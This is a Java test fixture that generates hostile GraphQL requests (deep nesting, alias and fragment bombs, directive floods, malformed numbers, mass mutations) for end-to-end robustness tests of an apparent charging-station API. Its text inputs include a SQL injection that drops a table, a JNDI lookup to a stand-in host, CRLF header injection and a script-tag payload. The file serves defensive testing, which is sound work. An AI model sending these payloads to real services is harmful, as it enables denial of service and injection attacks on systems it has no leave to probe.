package org.fairwatt.e2e.wire;

import java.util.List;
import java.util.Map;
import java.util.function.IntFunction;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** GraphQL documents that ask for far too much, in little or much text. */
final class HostileDocuments {

    private static final int ROOM = 120_000; // characters; what a body of 128 KB has room for

    private HostileDocuments() {}

    static Stream<Attack> all() {
        return Stream.of(
                        nesting(), aliases(), directives(), fragments(), numbers(), texts(), introspection(), changes())
                .flatMap(stream -> stream);
    }

    private static Stream<Attack> nesting() {
        return each(
                List.of(19, 21, 100, 1_000, 10_000, 50_000),
                n -> Stream.of(
                        document("nesting", "selections " + n, nested("{ ", "x", " }", n)),
                        document(
                                "nesting",
                                "types of types " + n,
                                "{ __schema { types " + nested("{ ofType ", "{ name }", " }", n) + " } }"),
                        document("nesting", "lists " + n, "{ station(id: " + nested("[", "", "]", n) + ") { id } }"),
                        document(
                                "nesting",
                                "objects " + n,
                                "{ station(id: " + nested("{a:", "1", "}", n) + ") { id } }"),
                        document("nesting", "inline fragments " + n, nested("{ ... ", "{ __typename }", " }", n)),
                        document(
                                "nesting",
                                "list types of a variable " + n,
                                "query(" + "$a: " + nested("[", "Int", "]", n) + ") { __typename }")));
    }

    private static Stream<Attack> aliases() {
        return each(
                List.of(45, 51, 500, 5_000),
                n -> Stream.of(
                        document("aliases", n + " names", "{" + repeat(n, "a%d: __typename ") + "}"),
                        document("aliases", n + " times me", "{" + repeat(n, "a%d: me { name } ") + "}"),
                        document(
                                "aliases",
                                n + " times the communities",
                                "{" + repeat(n, "a%d: me { communities { alias } } ") + "}"),
                        document(
                                "aliases",
                                n + " times my slots",
                                "{" + repeat(n, "a%d: reservations(first: 100) { items { id reason { text } } } ")
                                        + "}"),
                        document(
                                "aliases",
                                n + " times all stations",
                                "{"
                                        + repeat(
                                                n,
                                                "a%d: stations(near: {latitude: 1, longitude: 1}, first: 100) { items"
                                                        + " { id evses { id } } } ")
                                        + "}")));
    }

    private static Stream<Attack> directives() {
        return each(
                List.of(51, 1_000, 6_000),
                n -> Stream.of(
                        document(
                                "directives",
                                n + " on a field",
                                "{ me { id " + "@include(if: true) ".repeat(n) + "} }"),
                        document(
                                "directives",
                                n + " of several kinds",
                                "{ me { id " + "@skip(if: false) @include(if: true) ".repeat(n / 2) + "} }"),
                        document("directives", n + " unknown ones", "{ me { id " + "@boom ".repeat(n) + "} }"),
                        document(
                                "directives", n + " on the operation", "query " + "@boom ".repeat(n) + "{ me { id } }"),
                        document(
                                "directives",
                                n + " on fragments",
                                "{ me { ... " + "@include(if: true) ".repeat(n) + "{ id } } }")));
    }

    private static Stream<Attack> fragments() {
        Stream<Attack> bombs = each(
                List.of(10, 20, 25, 40, 90),
                n -> Stream.of(
                        document("fragments", "doubling " + n, bomb(n, 2)),
                        document("fragments", "with ten spreads each " + n, bomb(n, 10)),
                        document(
                                "fragments",
                                "in a circle of " + n,
                                "{ ...F0 } "
                                        + repeat(
                                                n, i -> "fragment F%d on Query { ...F%d } ".formatted(i, (i + 1) % n))),
                        document(
                                "fragments",
                                "in a circle of %d that nobody uses".formatted(n),
                                "{ __typename } "
                                        + repeat(
                                                n, i -> "fragment F%d on Query { ...F%d } ".formatted(i, (i + 1) % n))),
                        document(
                                "fragments",
                                "deep in a chain of " + n,
                                "{ ...F0 } "
                                        + repeat(
                                                n,
                                                i -> "fragment F%d on Me { %s ...F%d %s } "
                                                        .formatted(i, "a { ".repeat(20), i + 1, "} ".repeat(20))))));
        Stream<Attack> others = Stream.of(
                document("fragments", "on a type that isn't", "{ ...F } fragment F on Nothing { x }"),
                document("fragments", "that isn't there", "{ ...F }"),
                document(
                        "fragments",
                        "of one name 99 times",
                        "{ ...F } " + repeat(99, i -> "fragment F on Query { __typename } ")),
                document(
                        "fragments",
                        "5,000 definitions",
                        "{ __typename } " + repeat(5_000, i -> "fragment F%d on Me { id } ".formatted(i))));
        return Stream.concat(bombs, others);
    }

    private static Stream<Attack> numbers() {
        return Stream.of(
                        "9".repeat(50),
                        "9".repeat(99),
                        "9".repeat(100_000),
                        "-" + "9".repeat(60),
                        "1e400",
                        "1e-400",
                        "1e999999999",
                        "-0",
                        "00",
                        "0x10",
                        "1.",
                        ".5",
                        "NaN",
                        "Infinity",
                        "1" + "0".repeat(90) + ".0",
                        "1e+",
                        "--1")
                .flatMap(number -> Stream.of(
                        document(
                                "numbers",
                                "literal " + brief(number),
                                "{ stations(near: {latitude: %s, longitude: 1}, first: 1) { hasMore } }"
                                        .formatted(number)),
                        document(
                                "numbers",
                                "page of " + brief(number),
                                "{ reservations(first: %s) { hasMore } }".formatted(number)),
                        body(
                                "numbers",
                                "variable " + brief(number),
                                "{\"query\":\"query($n: Int) { reservations(first: $n) { hasMore } }\",\"variables\":{\"n\":%s}}"
                                        .formatted(number))));
    }

    private static Stream<Attack> texts() {
        return Map.ofEntries(
                        Map.entry("a hundred kilobytes", "x".repeat(100_000)),
                        Map.entry("half a surrogate", "\\ud800"),
                        Map.entry("NUL", "a\\u0000b"),
                        Map.entry("escape codes", "\\u001b[31m"),
                        Map.entry("right to left", "\u202egnp.exe"),
                        Map.entry("emoji", "\ud83d\udd0c".repeat(1_000)),
                        Map.entry("combining marks", "e\u0301".repeat(10_000)),
                        Map.entry("line ends", "\\r\\nSet-Cookie: a=b"),
                        Map.entry("SQL", "' or 1=1; drop table reservation; --"),
                        Map.entry("a format", "%s%n%x${jndi:ldap://x.example/a}"),
                        Map.entry("markup", "<script>alert(1)</script>"),
                        Map.entry("a byte order mark", "\ufeff"))
                .entrySet()
                .stream()
                .flatMap(text -> Stream.of(
                        body(
                                "texts",
                                text.getKey() + " as an id",
                                "{\"query\":\"query($i: ID!) { station(id: $i) { id } }\",\"variables\":{\"i\":\"%s\"}}"
                                        .formatted(text.getValue())),
                        body(
                                "texts",
                                text.getKey() + " as a cursor",
                                "{\"query\":\"query($c: String) { reservations(after: $c) { hasMore } }\",\"variables\":{\"c\":\"%s\"}}"
                                        .formatted(text.getValue())),
                        body(
                                "texts",
                                text.getKey() + " as a document",
                                "{\"query\":\"%s\"}".formatted(text.getValue()))));
    }

    private static Stream<Attack> introspection() {
        String types =
                "{ __schema { types { fields { type { name fields { type { name fields { type { name } } } } } } } }";
        return Stream.of(
                document("introspection", "types of fields of types", types),
                document(
                        "introspection",
                        "the same twice",
                        "{ a: " + types.substring(2, types.length() - 1) + " b: " + types.substring(2)),
                document(
                        "introspection",
                        "one type fifty times",
                        "{" + repeat(50, "a%d: __type(name: \"Query\") { fields { args { type { name } } } } ") + "}"),
                document(
                        "introspection",
                        "a type that isn't",
                        "{ __type(name: \"" + "x".repeat(10_000) + "\") { name } }"),
                document(
                        "introspection",
                        "possible types for ever",
                        "{ __schema { types " + nested("{ possibleTypes ", "{ name }", " }", 18) + " } }"),
                document(
                        "introspection",
                        "the type of every field",
                        "{ me { __typename community { __typename } } __typename }"));
    }

    private static Stream<Attack> changes() {
        return each(
                List.of(5, 40, 500),
                n -> Stream.of(
                        document(
                                "changes",
                                n + " cancellations",
                                "mutation {"
                                        + repeat(
                                                n,
                                                "a%d: cancelReservation(reservationId: \"x\", idempotencyKey:"
                                                        + " \"12345678\") { id } ")
                                        + "}"),
                        document(
                                "changes",
                                n + " memberships",
                                "mutation {"
                                        + repeat(
                                                n,
                                                "a%d: joinCommunity(code: \"NOSUCHCODE\", idempotencyKey:"
                                                        + " \"12345678\") { alias } ")
                                        + "}"),
                        document(
                                "changes",
                                n + " operations in one document",
                                repeat(n, "mutation M%d { __typename } "))));
    }

    private static String bomb(int n, int times) {
        return "{ ...F0 } "
                + repeat(
                        n,
                        i -> "fragment F%d on Query { %s } "
                                .formatted(i, "...F%d ".formatted(i + 1).repeat(times)))
                + "fragment F%d on Query { __typename }".formatted(n);
    }

    private static String nested(String open, String inside, String close, int times) {
        int fitting = Math.min(times, ROOM / (open.length() + close.length()));
        return open.repeat(fitting) + inside + close.repeat(fitting);
    }

    private static String repeat(int times, String part) {
        return repeat(times, i -> part.formatted(i));
    }

    private static String repeat(int times, IntFunction<String> part) {
        return IntStream.range(0, times).mapToObj(part).collect(Collectors.joining());
    }

    private static Stream<Attack> each(List<Integer> sizes, IntFunction<Stream<Attack>> attacks) {
        return sizes.stream().flatMap(attacks::apply);
    }

    private static Attack document(String family, String name, String document) {
        return Attack.document(family, name, document);
    }

    private static Attack body(String family, String name, String body) {
        return Attack.body(family, name, body);
    }

    private static String brief(String text) {
        return text.length() <= 20 ? text : "%s… (%d digits)".formatted(text.substring(0, 8), text.length());
    }
}
